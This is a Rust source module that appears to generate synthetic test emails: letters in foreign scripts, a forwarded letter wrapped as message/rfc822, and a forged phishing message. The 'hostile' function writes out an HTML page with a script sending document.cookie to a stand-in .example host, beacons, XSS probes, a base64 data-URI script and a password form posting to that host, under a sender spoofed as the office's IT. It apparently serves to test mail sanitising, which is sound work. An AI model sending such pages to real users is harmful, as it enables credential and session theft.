//! Letters out of the ordinary that people do send: in other scripts, passed on whole, or meant to
//! do harm.

use super::charsets::Charset;
use super::dates::{self, Local};
use super::envelope::{Mail, Sender};
use super::mime::{Part, Transfer, address, crlf, encoded_word, header};
use super::ordinary::named;
use super::people;
use super::run::{Kind, Run};
use super::scripts;
use super::sheet::Sheet;
use super::text::{self, Wrap};
use super::wording::Language;

/// A letter in the script that `sheet.kind` names.
pub(super) fn foreign(run: &Run, index: usize, sheet: &Sheet) -> Mail {
    let mut dice = run.dice(index, "foreign");
    let letters: &[scripts::Foreign] = match sheet.kind {
        Kind::Russian => &scripts::RUSSIAN,
        Kind::Japanese => &scripts::JAPANESE,
        Kind::Chinese => &scripts::CHINESE,
        Kind::Arabic => &scripts::ARABIC,
        Kind::Greek => &scripts::GREEK,
        _ => &scripts::EMOJI,
    };
    let letter = &letters[dice.below(letters.len())];
    let root = Part::text("plain", letter.body, letter.charset, letter.transfer);
    let from = (letter.name.to_owned(), letter.address.to_owned());
    let mut mail = Mail::new(run, from, letter.subject, (sheet.sent, letter.offset), root);
    mail.words = (letter.charset, letter.word);
    let domain = letter.address.rsplit('@').next().unwrap_or_default();
    mail.id = Some(format!("{:016x}.{:08x}@{domain}", dice.number(), dice.number() >> 32));
    mail.sender = Sender::Unknown;
    mail
}

/// Somebody passes on a whole letter (RFC 2046 section 5.2.1).
pub(super) fn forwarded(run: &Run, index: usize, mut sheet: Sheet) -> Mail {
    let mut dice = run.dice(index, "forward");
    let first = people::neighbour(&mut dice, &sheet.author, &run.office);
    let (earlier, offset) = (sheet.sent - 5_400, dates::offset(sheet.language(), sheet.sent));
    let mut inner = Vec::new();
    let words = (Charset::Utf8, super::mime::Word::Q);
    header(&mut inner, "Date", &Local::new(earlier, offset).header());
    header(&mut inner, "From", &address(&first.name, &first.address, words.0, words.1));
    header(&mut inner, "To", &sheet.author.address);
    header(&mut inner, "Subject", &encoded_word(&sheet.subject, words.0, words.1));
    header(&mut inner, "Message-ID", &format!("<{:016x}@{}>", dice.number(), first.domain));
    header(&mut inner, "MIME-Version", "1.0");
    header(&mut inner, "Content-Type", "text/plain; charset=utf-8");
    header(&mut inner, "Content-Transfer-Encoding", "8bit");
    // What the sheet says is what the first writer said.
    sheet.farewell[1] = first.name;
    sheet.signature.clear();
    let said = text::own_words(&sheet, Wrap::Hard);
    inner.extend_from_slice(b"\r\n");
    inner.extend_from_slice(crlf(&said).as_bytes());
    let (mark, notes) = match sheet.language() {
        Language::English => (
            "Fwd",
            ["This reached me, but it is yours.", "Could you take this over?", "For your records."],
        ),
        Language::German => (
            "WG",
            [
                "Das ist bei mir gelandet, gehört aber zu euch.",
                "Könnt ihr übernehmen?",
                "Zur Ablage.",
            ],
        ),
    };
    let note = format!("{}\n\n{}\n", dice.pick(&notes), sheet.author.name);
    let root = Part::text("plain", &note, Charset::Utf8, Transfer::Quoted).and(Part::typed(
        "message/rfc822",
        &inner,
        Transfer::EightBit,
    ));
    let subject = format!("{mark}: {}", sheet.subject);
    let mut mail = Mail::new(run, named(&sheet.author), &subject, (sheet.sent, offset), root);
    mail.id = Some(sheet.id.clone());
    mail.program = Some(sheet.author.program);
    mail
}

/// HTML that would run, load and lead astray if it were shown as it is.
pub(super) fn hostile(run: &Run, index: usize, sheet: &Sheet) -> Mail {
    let mut dice = run.dice(index, "hostile");
    let host = dice.pick(&["mailbox-service.example", "secure-parcel.example", "it-desk.example"]);
    let (subject, claim) = dice.pick(&[
        ("Your mailbox is almost full", "Your mailbox has used 99 % of its space."),
        ("Parcel held: confirm your address", "A parcel for you is held at our depot."),
        ("Password expires today", "The password of this account expires today."),
    ]);
    let victim = dice.number() >> 40;
    let page = format!(
        "<html><head><title>{subject}</title>\n<script>document.location='https://{host}/s?c='+document.cookie</script>\n<meta http-equiv=\"refresh\" content=\"0;url=https://{host}/r\">\n<link rel=\"stylesheet\" href=\"https://{host}/x.css\">\n<style>@import url(https://{host}/y.css); body {{ background: url(https://{host}/b.png) }}</style></head>\n<body onload=\"fetch('https://{host}/o?v={victim:x}')\">\n<p>{claim}</p>\n<p><a href=\"javascript:alert(document.domain)\" onclick=\"steal()\">Confirm now</a></p>\n<img src=\"https://{host}/pixel.gif?v={victim:x}\" width=\"1\" height=\"1\" alt=\"\" onerror=\"alert(1)\">\n<svg onload=\"alert(2)\"><script>alert(3)</script></svg>\n<iframe src=\"https://{host}/frame\"></iframe>\n<form action=\"https://{host}/login\" method=\"post\"><input name=\"password\" type=\"password\"><button>Sign in</button></form>\n<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==\">Details</a>\n</body></html>\n"
    );
    let root = Part::text("html", &page, Charset::Utf8, Transfer::Quoted);
    // The name pretends to be the office itself.
    let from = (format!("{} IT", run.office), format!("no-reply@{host}"));
    let mut mail = Mail::new(run, from, subject, (sheet.sent, 0), root);
    mail.id = Some(format!("{:016x}@{host}", dice.number()));
    mail.sender = Sender::Forged;
    mail
}
